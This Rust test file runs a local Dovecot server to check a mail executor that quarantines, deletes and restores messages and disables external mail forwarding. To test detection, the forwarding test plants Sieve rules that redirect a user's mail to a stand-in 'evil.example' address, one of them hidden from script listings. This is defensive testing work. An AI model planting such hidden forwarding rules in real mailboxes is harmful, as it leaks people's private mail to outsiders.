//! Dovecot with three mailboxes. Mail is delivered by its own delivery agent, so that a Sieve script is in force or not
//! by what is forwarded.

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;

use domain::{Action, Outcome};
use executors::mail::{Mail, MailSettings};
use executors::secret::Secret;
use serde_json::{Value, json};
use service::executor::Attempt;

use crate::order::{action, attempt, ends};
use crate::server::{Server, folder, is_root, output, port, programs};

const CONFIGURATION: &str = "
protocols =
base_dir = FOLDER/run
state_dir = FOLDER/state
log_path = FOLDER/log
listen = 127.0.0.1
ssl = no
default_internal_user = SERVER_USER
default_internal_group = SERVER_GROUP
default_login_user = SERVER_USER
first_valid_uid = 1
mail_home = FOLDER/mail/%u
mail_location = maildir:~/Maildir
mail_uid = MAIL_USER
mail_gid = MAIL_GROUP
doveadm_api_key = the key
sendmail_path = FOLDER/sendmail
postmaster_address = postmaster@corp.example
hostname = mail.corp.example
userdb {
  driver = passwd-file
  args = FOLDER/users
}
passdb {
  driver = passwd-file
  args = FOLDER/users
}
namespace inbox {
  inbox = yes
  separator = /
}
service doveadm {
  inet_listener http {
    port = PORT
  }
}
service anvil {
  chroot =
}
service stats {
  chroot =
}
protocol lda {
  mail_plugins = sieve
}
plugin {
  sieve = file:~/sieve;active=~/.dovecot.sieve
}
";

struct Dovecot {
    server: Server,
    port: u16,
    doveadm: PathBuf,
    deliver: PathBuf,
}

impl Dovecot {
    fn start() -> Option<Self> {
        let [dovecot, doveadm, deliver] = programs("dovecot-imapd", ["dovecot", "doveadm", "dovecot-lda"])?;
        if !Path::new("/usr/lib/dovecot/modules/doveadm/lib10_doveadm_sieve_plugin.so").exists() {
            programs("dovecot-sieve", ["lib10_doveadm_sieve_plugin.so"])?;
        }
        let folder = folder();
        let (path, port) = (folder.path().to_owned(), port());
        let word = |option: &str| output(Command::new("id").arg(option)).trim().to_owned();
        // Mail is never root's.
        let (user, group) =
            if is_root() { ("nobody".to_owned(), "nogroup".to_owned()) } else { (word("-un"), word("-gn")) };
        let configuration = CONFIGURATION
            .replace("FOLDER", path.to_str().unwrap())
            .replace("PORT", &port.to_string())
            .replace("SERVER_USER", &word("-un"))
            .replace("SERVER_GROUP", &word("-gn"))
            .replace("MAIL_USER", &user)
            .replace("MAIL_GROUP", &group);
        std::fs::write(path.join("dovecot.conf"), configuration).unwrap();
        let users =
            ["kim", "lee", "quarantine"].map(|name| format!("{name}@corp.example:{{PLAIN}}x::::::\n"));
        std::fs::write(path.join("users"), users.concat()).unwrap();
        let sendmail =
            format!("#!/bin/sh\necho \"$@\" >> {}/mail/forwarded\ncat > /dev/null\n", path.display());
        std::fs::write(path.join("sendmail"), sendmail).unwrap();
        std::fs::create_dir(path.join("mail")).unwrap();
        for (name, mode) in [(".", 0o755), ("mail", 0o777), ("sendmail", 0o755)] {
            std::fs::set_permissions(path.join(name), std::fs::Permissions::from_mode(mode)).unwrap();
        }
        let mut command = Command::new(dovecot);
        command.args(["-F", "-c"]).arg(path.join("dovecot.conf"));
        let server = Server::start(folder, &mut command, port);
        Some(Self { server, port, doveadm, deliver })
    }

    fn doveadm(&self, arguments: &[&str]) -> String {
        let mut command = Command::new(&self.doveadm);
        output(command.arg("-c").arg(self.server.folder().join("dovecot.conf")).args(arguments))
    }

    /// Delivers a message as from outside.
    fn deliver(&self, user: &str, id: &str) {
        use std::io::Write as _;
        let mut command = Command::new(&self.deliver);
        command.arg("-c").arg(self.server.folder().join("dovecot.conf"));
        command.args(["-d", &format!("{user}@corp.example"), "-f", "a@x.example"]).stdin(Stdio::piped());
        let mut child = command.spawn().unwrap();
        let text = format!(
            "From: a@x.example\nTo: {user}@corp.example\nSubject: Hello\nMessage-ID: {id}\n\nHello.\n"
        );
        child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
        assert!(child.wait().unwrap().success());
    }

    /// In which folders a user has the message, as doveadm shows it.
    fn folders(&self, user: &str, id: &str) -> Vec<String> {
        let user = format!("{user}@corp.example");
        let shown = self.doveadm(&["-f", "tab", "fetch", "-u", &user, "mailbox hdr.message-id", "all"]);
        let mut folders: Vec<String> = shown
            .lines()
            .filter_map(|line| line.split_once('\t'))
            .filter(|(_, found)| *found == id)
            .map(|(folder, _)| folder.to_owned())
            .collect();
        folders.sort();
        folders
    }

    /// To whom mail was forwarded until now.
    fn forwarded(&self) -> usize {
        let path = self.server.folder().join("mail/forwarded");
        std::fs::read_to_string(path)
            .map_or(0, |text| text.lines().filter(|line| line.contains("evil.example")).count())
    }

    fn executor(&self, more: Value) -> Arc<Mail> {
        let mut settings = json!({
            "url": format!("http://127.0.0.1:{}", self.port),
            "quarantine": "quarantine@corp.example",
            "own_domains": ["corp.example"],
        });
        settings.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        let settings: MailSettings = serde_json::from_value(settings).unwrap();
        Arc::new(Mail::new("mail".to_owned(), settings, Secret::new("the key".to_owned())).unwrap())
    }
}

fn message(of: &str, user: &str, id: &str) -> Action {
    let entity =
        json!({ "kind": "email_message", "message_id": id, "subject": "Hello", "sender": "a@x.example" });
    action(of, entity, json!({ "kind": "mailbox", "name": format!("{user}@corp.example") }), json!({}))
}

fn cluster(of: &str, id: &str) -> Action {
    let entity = json!({ "kind": "email_cluster", "cluster_id": id, "subject": "Hello", "messages": 2 });
    action(of, entity, json!({ "kind": "mailbox", "name": "all" }), json!({}))
}

fn mailbox(of: &str, user: &str) -> Action {
    let address = format!("{user}@corp.example");
    let entity = json!({ "kind": "mailbox", "address": address });
    action(of, entity, json!({ "kind": "mailbox", "name": address }), json!({}))
}

#[tokio::test]
async fn a_message_is_moved_and_comes_back() {
    let Some(dovecot) = Dovecot::start() else { return };
    let mail = dovecot.executor(json!({}));
    mail.test().await.unwrap();
    assert_eq!(mail.types().len(), 9);
    // The ids that a careless search would take for the same.
    for id in ["<one@x.example>", "<one@x.example>more", "<no-one@x.example>"] {
        dovecot.deliver("kim", id);
    }
    dovecot.deliver("lee", "<one@x.example>");
    for (of, undo, folder) in [
        ("soft_delete_email", "move_to_inbox", "Recoverable Items"),
        ("move_to_junk", "move_to_inbox", "Junk"),
        ("move_to_deleted_items", "move_to_inbox", "Trash"),
    ] {
        assert_eq!(dovecot.folders("kim", "<one@x.example>"), ["INBOX"]);
        let said = ends(&mail, &message(of, "kim", "<one@x.example>"), Outcome::Completed).await;
        assert!(said.ends_with(": 1 message in kim@corp.example."), "{said}");
        assert_eq!(dovecot.folders("kim", "<one@x.example>"), [folder]);
        ends(&mail, &message(of, "kim", "<one@x.example>"), Outcome::Skipped).await;
        let repeat = attempt(&mail, &message(of, "kim", "<one@x.example>"), true).await;
        assert!(matches!(repeat, Attempt::Ended(Outcome::Completed, _)), "{repeat:?}");
        ends(&mail, &message(undo, "kim", "<one@x.example>"), Outcome::Completed).await;
    }
    assert_eq!(dovecot.folders("kim", "<one@x.example>"), ["INBOX"]);
    ends(&mail, &message("hard_delete_email", "kim", "<one@x.example>"), Outcome::Completed).await;
    assert_eq!(dovecot.folders("kim", "<one@x.example>"), Vec::<String>::new());
    for (user, id) in
        [("kim", "<one@x.example>more"), ("kim", "<no-one@x.example>"), ("lee", "<one@x.example>")]
    {
        assert_eq!(dovecot.folders(user, id), ["INBOX"], "{user} {id}");
    }
    let said = ends(&mail, &message("soft_delete_email", "nobody", "<one@x.example>"), Outcome::Failed).await;
    assert_eq!(said, "There is no mailbox nobody@corp.example.");
}

#[tokio::test]
async fn a_cluster_is_quarantined_in_all_mailboxes_and_released() {
    let Some(dovecot) = Dovecot::start() else { return };
    let mail = dovecot.executor(json!({}));
    let id = "<two@x.example>";
    for user in ["kim", "lee"] {
        dovecot.deliver(user, id);
    }
    let said = ends(&mail, &cluster("quarantine_email", id), Outcome::Completed).await;
    assert!(said.ends_with(": 2 messages in kim@corp.example, lee@corp.example."), "{said}");
    for user in ["kim", "lee"] {
        assert_eq!(dovecot.folders(user, id), Vec::<String>::new());
    }
    assert_eq!(dovecot.folders("quarantine", id), ["kim@corp=2Eexample", "lee@corp=2Eexample"]);
    // One of them alone, then the rest.
    ends(&mail, &message("release_email_from_quarantine", "lee", id), Outcome::Completed).await;
    assert_eq!(dovecot.folders("lee", id), ["INBOX"]);
    assert_eq!(dovecot.folders("quarantine", id), ["kim@corp=2Eexample"]);
    ends(&mail, &cluster("release_email_from_quarantine", id), Outcome::Completed).await;
    assert_eq!(dovecot.folders("kim", id), ["INBOX"]);
    assert_eq!(dovecot.folders("quarantine", id), Vec::<String>::new());
    ends(&mail, &cluster("hard_delete_email", id), Outcome::Completed).await;
    assert_eq!(dovecot.folders("lee", id), Vec::<String>::new());
}

#[tokio::test]
async fn forwarding_outside_is_turned_off_and_on_again() {
    let Some(dovecot) = Dovecot::start() else { return };
    let mail = dovecot.executor(json!({}));
    let script = dovecot.server.folder().join("script");
    std::fs::write(&script, "require [\"copy\"];\nredirect :copy \"kim@evil.example\";\n").unwrap();
    dovecot.doveadm(&["sieve", "put", "-u", "kim@corp.example", "-a", "main", script.to_str().unwrap()]);
    // As a person writes it by hand: no list of scripts shows it.
    let home = dovecot.server.folder().join("mail/lee@corp.example");
    dovecot.deliver("lee", "<before@x.example>");
    std::fs::write(home.join(".dovecot.sieve"), "redirect \"lee@evil.example\";\n").unwrap();
    for (user, name) in [("kim", "main"), ("lee", "dovecot.orig")] {
        let before = dovecot.forwarded();
        let delivers = |id: &str| {
            dovecot.deliver(user, id);
            dovecot.forwarded() - before
        };
        assert_eq!(delivers("<1@x.example>"), 1, "{user}");
        let said = ends(&mail, &mailbox("turn_off_external_mail_forwarding", user), Outcome::Completed).await;
        assert!(said.contains(&format!("to {user}@evil.example")) && said.contains(name), "{said}");
        assert_eq!(delivers("<2@x.example>"), 1, "{user}");
        assert_eq!(dovecot.folders(user, "<2@x.example>"), ["INBOX"], "what is not forwarded is kept");
        ends(&mail, &mailbox("turn_off_external_mail_forwarding", user), Outcome::Skipped).await;
        let said = ends(&mail, &mailbox("restore_mail_forwarding", user), Outcome::Completed).await;
        assert!(said.contains(name), "{said}");
        assert_eq!(delivers("<3@x.example>"), 2, "{user}");
        let listed = dovecot.doveadm(&["sieve", "list", "-u", &format!("{user}@corp.example")]);
        assert!(
            listed.contains(name) && listed.contains("ACTIVE") && !listed.contains("countersign"),
            "{listed}"
        );
        ends(&mail, &mailbox("restore_mail_forwarding", user), Outcome::Skipped).await;
    }
    // Nothing to take out: nothing is left behind.
    ends(&mail, &mailbox("turn_off_external_mail_forwarding", "quarantine"), Outcome::Skipped).await;
    assert_eq!(dovecot.doveadm(&["sieve", "list", "-u", "quarantine@corp.example"]), "");
    // What can't be read through is no "no forwarding".
    std::fs::write(&script, "require [\"include\"];\ninclude \"more\";\n").unwrap();
    dovecot.doveadm(&["sieve", "put", "-u", "kim@corp.example", "-a", "main", script.to_str().unwrap()]);
    let said = ends(&mail, &mailbox("turn_off_external_mail_forwarding", "kim"), Outcome::Failed).await;
    assert!(said.contains("it uses include"), "{said}");
    // Who chose another script meanwhile keeps it.
    std::fs::write(&script, "redirect \"kim@evil.example\";\n").unwrap();
    dovecot.doveadm(&["sieve", "put", "-u", "kim@corp.example", "-a", "main", script.to_str().unwrap()]);
    ends(&mail, &mailbox("turn_off_external_mail_forwarding", "kim"), Outcome::Completed).await;
    std::fs::write(&script, "keep;\n").unwrap();
    dovecot.doveadm(&["sieve", "put", "-u", "kim@corp.example", "-a", "other", script.to_str().unwrap()]);
    let said = ends(&mail, &mailbox("restore_mail_forwarding", "kim"), Outcome::Failed).await;
    assert!(said.contains("another script since (other)"), "{said}");
}

#[tokio::test]
async fn what_is_wrong_with_the_settings_is_one_sentence() {
    let Some(dovecot) = Dovecot::start() else { return };
    let place = format!("127.0.0.1:{}", dovecot.port);
    let settings = json!({ "url": format!("http://{place}") });
    let wrong = serde_json::from_value(settings).unwrap();
    let wrong = Mail::new("mail".to_owned(), wrong, Secret::new("wrong".to_owned())).unwrap();
    let said = wrong.test().await.unwrap_err();
    assert_eq!(said, format!("{place} does not take the key: it must be that of doveadm_api_key."));
    let said = dovecot.executor(json!({ "quarantine": "nobody@corp.example" })).test().await.unwrap_err();
    assert!(said.ends_with("There is no mailbox nobody@corp.example."), "{said}");
    let closed = format!("http://127.0.0.1:{}", crate::server::port());
    let down = dovecot.executor(json!({ "url": closed }));
    assert!(down.test().await.unwrap_err().contains("refuses the connection"));
    let delete = message("hard_delete_email", "kim", "<one@x.example>");
    assert!(matches!(attempt(&down, &delete, false).await, Attempt::NotSent(_)));
}
